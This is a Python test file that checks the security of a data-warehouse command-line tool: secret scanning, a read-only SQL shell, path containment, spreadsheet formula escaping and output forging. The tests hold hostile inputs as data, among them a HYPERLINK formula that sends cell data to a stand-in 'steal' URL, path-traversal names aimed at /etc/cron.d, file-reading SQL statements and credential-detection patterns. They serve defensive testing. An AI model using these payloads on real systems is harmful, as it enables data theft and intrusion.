"""Security: no secrets in the repository or in logs, a read-only `sli sql`, input names that cannot
leave SLI_HOME, and spreadsheets that never run formula-looking text."""

from __future__ import annotations

import csv
import re
import subprocess
import zipfile

import duckdb
import pandas as pd

from conftest import REPO, copy_home, sli
from ingestion.landing import sha256_of
from lginform_server import FakeLgInform, Metric

# Shapes of real credentials: cloud keys, private keys, tokens, and secrets assigned in code or config.
KEY_LIKE = [
    re.compile(r"AKIA[0-9A-Z]{16}"),
    re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}"),
    re.compile(r"\bxox[baprs]-[A-Za-z0-9-]{10,}"),
    # A secret assigned a literal value (not an environment variable's NAME, which is upper case).
    re.compile(
        r"(?i:secret|password|passwd|api[_-]?key|token)\s*[:=]\s*['\"](?![A-Z0-9_]+['\"])[A-Za-z0-9/+_=-]{16,}['\"]"
    ),
]
# Made-up values the tests use against the local test server; no real service knows them.
TEST_ONLY = {"test-secret-do-not-log", "wrong-secret-value", "s3cr3t-value-that-must-never-be-printed"}


def test_no_key_like_string_is_committed():
    files = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True, check=True).stdout.split(b"\0")
    found = []
    for name in filter(None, files):
        path = REPO / name.decode()
        if not path.is_file() or path.stat().st_size > 5_000_000:
            continue
        text = path.read_bytes().decode("utf-8", errors="ignore")
        found += [
            f"{name.decode()}: {m.group(0)[:40]}"
            for pattern in KEY_LIKE
            for m in pattern.finditer(text)
            if not any(allowed in m.group(0) for allowed in TEST_ONLY)
        ]
    assert found == []


def test_the_scan_finds_a_planted_key():
    planted = (
        "LGINFORM_SECRET = " + '"' + "3f9a8b7c6d5e4f3a" + "2b1c0d9e8f7a6b5c" + '"'
    )  # built, so not committed whole
    assert any(pattern.search(planted) for pattern in KEY_LIKE)


def test_the_secret_is_in_no_output_log_or_file_after_a_failed_call(tmp_path):
    secret = "s3cr3t-value-that-must-never-be-printed"
    with FakeLgInform(metrics=[Metric("101", "one")]) as server:
        env = {"SLI_LGINFORM_URL": server.base_url, "SLI_LGINFORM_KEY": server.key, "SLI_LGINFORM_SECRET": secret}
        failed = sli(tmp_path, "ingest", "lginform", check=False, env=env)
    assert failed.returncode != 0 and "check the application key and secret" in failed.stderr
    assert "Traceback" not in failed.stderr
    written = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())
    assert secret not in failed.stdout + failed.stderr and secret.encode() not in written


def test_sli_sql_cannot_write(published_home):
    published = published_home / "warehouse" / "sli.duckdb"
    before = sha256_of(published)
    for statement in (
        "delete from mart_sector_overview",
        "create table scratch as select 1 as x",
        "drop table dim_council",
        "update dim_council set council_name = 'x'",
        "insert into dim_metric (metric_id) values ('x')",
    ):
        result = sli(published_home, "sql", statement, check=False)
        assert result.returncode != 0 and "read-only" in result.stderr.lower(), (statement, result.stderr)
        assert "Traceback" not in result.stderr
    assert sha256_of(published) == before


def test_names_from_inputs_cannot_leave_sli_home(tmp_path):
    home, outside = tmp_path / "home", tmp_path / "escaped"
    hostile = [Metric("../../escaped/evil", "path up"), Metric("/etc/cron.d/evil", "absolute path")]
    with FakeLgInform(metrics=hostile) as server:
        env = {
            "SLI_LGINFORM_URL": server.base_url,
            "SLI_LGINFORM_KEY": server.key,
            "SLI_LGINFORM_SECRET": server.secret,
        }
        sli(
            home,
            "ingest",
            "lginform",
            "--metric",
            hostile[0].identifier,
            "--metric",
            hostile[1].identifier,
            check=False,
            env=env,
        )
    assert not outside.exists()
    assert {p.parent for p in (home / "landing").rglob("*") if p.is_file()} == {home / "landing" / "lginform"}
    assert all(".." not in p.name and "/" not in p.name for p in (home / "landing" / "lginform").iterdir())


def test_exported_workbooks_and_csv_keep_formula_looking_text_as_text(tmp_path, published_home):
    home = copy_home(published_home, tmp_path / "home")
    hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open")'
    with (home / "inbox" / "ope" / "ope_partnership_outputs.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Partnership", "Measure", "Value", "Unit", "Basis", "Scope", "As of date"])
        writer.writerow([hostile, "jobs_created", "12", "jobs", "achieved", "partnership", "2025-03-31"])
    sli(home, "refresh")
    sli(home, "export")
    [workbook] = (home / "exports").glob("*/*.xlsx")
    with zipfile.ZipFile(workbook) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no cell is a formula
    ope = pd.read_excel(workbook, sheet_name="One Public Estate", engine="calamine")
    assert hostile in set(ope["partnership_name"])
    # The CSV files and `sli sql --format csv` are opened in spreadsheets too: text, not a formula, unless
    # --raw; Parquet keeps the value exactly.
    [folder] = (home / "exports").glob("*/")
    exported = pd.read_csv(folder / "csv" / "fct_ope_outputs.csv", dtype=str)
    assert "'" + hostile in set(exported["partnership_name"]) and hostile not in set(exported["partnership_name"])
    assert hostile in set(pd.read_parquet(folder / "parquet" / "fct_ope_outputs.parquet")["partnership_name"])
    sli(home, "export", "--raw", "--out", str(tmp_path / "raw"))
    assert hostile in set(pd.read_csv(tmp_path / "raw" / "csv" / "fct_ope_outputs.csv", dtype=str)["partnership_name"])
    query = "select partnership_name from fct_ope_outputs where partnership_name like '=HYPERLINK%'"
    assert sli(home, "sql", query, "--format", "csv").stdout.splitlines()[1].startswith("\"'=HYPERLINK")
    assert sli(home, "sql", query, "--format", "csv", "--raw").stdout.splitlines()[1].startswith('"=HYPERLINK')


def test_sli_sql_cannot_reach_files_extensions_or_settings(published_home, tmp_path):
    secret = tmp_path / "private.csv"
    secret.write_text("token\nnot-for-analysts\n")
    published = published_home / "warehouse" / "sli.duckdb"
    before = sha256_of(published)
    for statement in (
        f"select * from read_csv('{secret}')",
        f"select * from read_text('{secret}')",
        f"select * from glob('{tmp_path}/*')",
        f"copy dim_council to '{tmp_path}/out.csv'",
        f"copy (select 1) to '{published}'",
        f"attach '{tmp_path}/other.duckdb' as other",
        f"export database '{tmp_path}/dump'",
        "load httpfs",
        "set enable_external_access = true",
        "set lock_configuration = false",
    ):
        result = sli(published_home, "sql", statement, check=False)
        assert result.returncode != 0, statement
        assert "Traceback" not in result.stderr and "not-for-analysts" not in result.stdout + result.stderr
        assert "query refused" in result.stderr or "configuration has been locked" in result.stderr, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["private.csv"]
    assert sha256_of(published) == before
    assert sli(published_home, "sql", "select count(*) from dim_council").returncode == 0


def test_read_commands_work_on_a_read_only_home_and_writers_say_where_to_write(tmp_path, published_home):
    home, read_only = copy_home(published_home, tmp_path / "home"), tmp_path / "read-only"
    read_only.mkdir()
    mounted = subprocess.run(["mount", "--bind", str(home), str(read_only)], capture_output=True, text=True)
    assert mounted.returncode == 0, f"this test needs to bind-mount a folder (root): {mounted.stderr}"
    try:
        subprocess.run(["mount", "-o", "remount,bind,ro", str(read_only)], check=True)
        assert "loaded" in sli(read_only, "status").stdout
        assert "PASS" in sli(read_only, "quality").stdout
        assert (
            sli(read_only, "sql", "select count(*) as n from dim_council", "--format", "csv").stdout.split()[1] != "0"
        )
        for command in ("report", "export"):
            refused = sli(read_only, command, check=False)
            assert refused.returncode == 1 and "Traceback" not in refused.stderr, refused.stderr
            assert "Read-only file system): choose a folder with --out" in refused.stderr
        page = sli(read_only, "report", "--out", str(tmp_path / "report")).stdout
        assert (tmp_path / "report" / "index.html").exists() and str(tmp_path / "report") in page
        sli(read_only, "export", "--out", str(tmp_path / "export"))
        assert any((tmp_path / "export").glob("*.xlsx"))
    finally:
        subprocess.run(["umount", str(read_only)], check=True)


def test_report_options_are_checked_before_anything_is_written(tmp_path, published_home):
    home = copy_home(published_home, tmp_path / "home")
    [index] = home.glob("reports/*/index.html")
    before = sha256_of(index)
    for option, value in (("--council", "NOPE"), ("--metric", "no-such-metric")):
        refused = sli(home, "report", option, value, check=False)
        assert refused.returncode == 1 and f"no {option[2:]} '{value}' in the warehouse" in refused.stderr
    assert sha256_of(index) == before
    with duckdb.connect(str(home / "warehouse" / "sli.duckdb"), read_only=True) as con:
        [(council,)] = con.execute("select min(council_code) from dim_council").fetchall()
    written = sli(home, "report", "--council", council).stdout
    assert f"overview_{council}_default.html" in written
    assert (index.parent / f"overview_{council}_default.html").exists() and sha256_of(index) == before


def test_a_file_name_cannot_forge_or_restyle_a_line_of_output(tmp_path):
    """A newline and a terminal escape in an inbox file's name are printed as escapes: no forged
    "loaded" line, no colour change, on the file's own line and in the error that rejects it."""
    folder = tmp_path / "drop"
    folder.mkdir()
    forged = "x.csv: 6 rows\n  loaded   round99.csv: 9,999 rows\x1b[32m.csv"  # no slash: a name, not a path
    (folder / forged).write_text("nothing,like,a,poll\n1,2,3,4\n", encoding="utf-8")
    result = sli(tmp_path / "home", "ingest", "polls", str(folder), check=False)
    output = result.stdout + result.stderr
    assert result.returncode == 1
    assert not any(line.lstrip().startswith("loaded   round99.csv") for line in output.splitlines())
    assert "\x1b[32m" not in output and "\\x1b[32m" in output and "9,999 rows\\x1b" in output
    assert "x.csv: 6 rows\\n  loaded" in output
